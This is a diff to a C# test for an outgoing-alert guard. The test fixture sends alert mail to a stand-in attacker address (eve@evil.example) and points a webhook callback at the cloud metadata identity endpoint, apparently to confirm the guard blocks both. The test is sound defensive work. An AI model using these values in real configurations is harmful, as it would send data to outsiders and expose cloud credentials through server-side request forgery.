@@ -75,14 +75,14 @@ public sealed class OutgoingGuardTests
             alerts:
               - name: stranger
                 when: { subjectEndsWith: /stranger }
-                send: { channel: email, to: ["{{ data.owner }}"], subject: s, text: t }
+                send: { channel: email, to: [eve@evil.example], subject: s, text: t }
               - name: metadata
                 when: { subjectEndsWith: /stranger }
                 send: { channel: hook, metadata: { url: "{{ data.callback }}" }, forward: true }
             """);
         fixture.Fixture.Settings["Outgoing:MailDomains:0"] = "example.org";
         await fixture.StartAsync(Token);
-        var caused = SampleEvents.Create("RunCompleted", """{"owner":"eve@evil.example","callback":"http://169.254.169.254/metadata/identity"}""", "runs/stranger");
+        var caused = SampleEvents.Create("RunCompleted", """{"callback":"http://169.254.169.254/metadata/identity"}""", "runs/stranger");
 
         await fixture.Fixture.PublishAsync(caused, Token);
         var mail = await fixture.Fixture.EndOfAsync("stranger", caused, Token);
